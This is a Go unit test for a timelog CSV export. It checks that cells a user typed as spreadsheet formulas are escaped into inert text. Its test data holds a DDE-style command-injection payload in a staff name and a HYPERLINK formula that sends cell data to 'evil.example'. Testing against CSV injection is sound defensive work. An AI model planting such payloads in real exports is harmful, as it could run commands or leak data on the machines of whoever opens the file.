package timelog_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/outreach-engine/outreach/timelog"
)

// TestExportCellsAreInert: a note or a name typed as a formula is exported as text that no
// spreadsheet runs, and each version names who recorded it by id and name.
func TestExportCellsAreInert(t *testing.T) {
	ctx := context.Background()
	s, d := setup(t)
	if _, err := d.Exec(`UPDATE staff SET name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE ext_id = 'RN1'`); err != nil {
		t.Fatal(err)
	}
	dr := draft("P1", 20)
	dr.Note = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
	if _, err := s.Record(ctx, as(t, s, "RN1"), dr, timelog.SourceManual); err != nil {
		t.Fatal(err)
	}
	var buf strings.Builder
	if err := s.Export(ctx, &buf, at("2026-03-01T00:00:00-05:00"), at("2026-04-01T00:00:00-04:00"), newYork); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export: %d records, %v", len(recs), err)
	}
	row := map[string]string{}
	for i, h := range recs[0] {
		row[h] = recs[1][i]
	}
	want := map[string]string{
		"note":            `'=HYPERLINK("http://evil.example/?"&A1,"Open")`,
		"staff_name":      `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"created_by":      "RN1",
		"created_by_name": `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"started_at":      "2026-03-02T10:00:00-05:00",
	}
	for col, v := range want {
		if row[col] != v {
			t.Errorf("%s = %q, want %q", col, row[col], v)
		}
	}
}
